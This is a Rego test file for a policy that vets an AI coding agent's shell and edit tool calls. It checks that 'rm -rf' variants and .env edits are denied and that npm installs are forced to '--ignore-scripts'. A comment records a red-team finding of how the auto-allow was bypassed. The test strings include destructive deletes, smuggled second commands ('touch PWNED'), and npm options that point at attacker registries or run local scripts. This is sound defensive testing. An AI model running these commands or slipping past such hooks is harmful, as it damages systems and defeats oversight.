package hookcore_test

import rego.v1

import data.hookcore

bash(cmd) := {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": cmd}}

test_rm_rf_denied if {
	some msg in hookcore.deny with input as bash("rm -rf build dist")
	contains(msg, "'rm -rf' is blocked")
}

test_rm_spellings_denied if {
	every cmd in ["rm -fr x", "cd /srv && sudo rm -Rf cache", "rm -r -f x", "rm --recursive --force x", "/bin/rm -rf x"] {
		count(hookcore.deny) > 0 with input as bash(cmd)
	}
}

test_rm_r_allowed if {
	count(hookcore.deny) == 0 with input as bash("rm -r build")
}

test_env_edit_denied if {
	count(hookcore.deny) > 0 with input as {"tool_name": "Edit", "tool_input": {"file_path": "/p/.env"}}
}

test_npm_rewritten if {
	hookcore.updated_input.command == "npm install left-pad --ignore-scripts" with input as bash("npm install left-pad")
	hookcore.ask with input as bash("npm install left-pad")
	not hookcore.allow with input as bash("npm install left-pad")
}

test_npm_already_ignoring_not_rewritten if {
	not hookcore.updated_input with input as bash("npm ci --ignore-scripts")
}

test_session_notes if {
	contains(hookcore.additional_context, "unittest") with input as {"hook_event_name": "SessionStart"}
}

test_npm_line_with_another_command_not_allowed if {
	every cmd in ["npm i lodash && npm run clean", "npm ci && npm exec foo", "npm i && npm test", "npm install-test", "npm -s run install", "touch PWNED # npm i", "npm i x; rm -rf y"] {
		not hookcore.allow with input as bash(cmd)
		not hookcore.updated_input with input as bash(cmd)
	}
}

test_npm_switch_back_on_overridden if {
	hookcore.updated_input.command == "cd app && npm ci --ignore-scripts=false --ignore-scripts" with input as bash("cd app && npm ci --ignore-scripts=false")
}

# Red team round 2: an automatic allow ran a program other than npm (--git=./evil.sh) and
# took options that change where packages come from or where they go.
test_npm_unsafe_options_and_specs_not_allowed if {
	every cmd in [
		"npm i --git=./evil.sh git+file:///tmp/np/r.git", "npm i --userconfig=./evil.npmrc left-pad",
		"npm i -g --prefix=/usr/local evilpkg", "npm i --registry=http://attacker/ left-pad",
		"npm i --node-options=--require=./x.js left-pad", "npm i --script-shell=./x.sh left-pad",
		"npm i --reg=http://attacker/ left-pad", "npm i ./evil", "npm i evil.tgz", "npm i user/repo",
		"npm i lodash@npm:evil", "npm i https://attacker/x.tgz", "npm i --ignore-scripts false left-pad",
		"cd ../elsewhere && npm i left-pad", "npm --prefix x i left-pad", "npm i left-pad\ntouch PWNED",
	] {
		not hookcore.allow with input as bash(cmd)
		not hookcore.updated_input with input as bash(cmd)
	}
}

test_npm_registry_specs_and_safe_options_rewritten if {
	cmd := "cd web && npm i -D @types/node@^20.1.0 lodash@4 --save-exact --no-fund"
	hookcore.updated_input.command == concat("", [cmd, " --ignore-scripts"]) with input as bash(cmd)
}
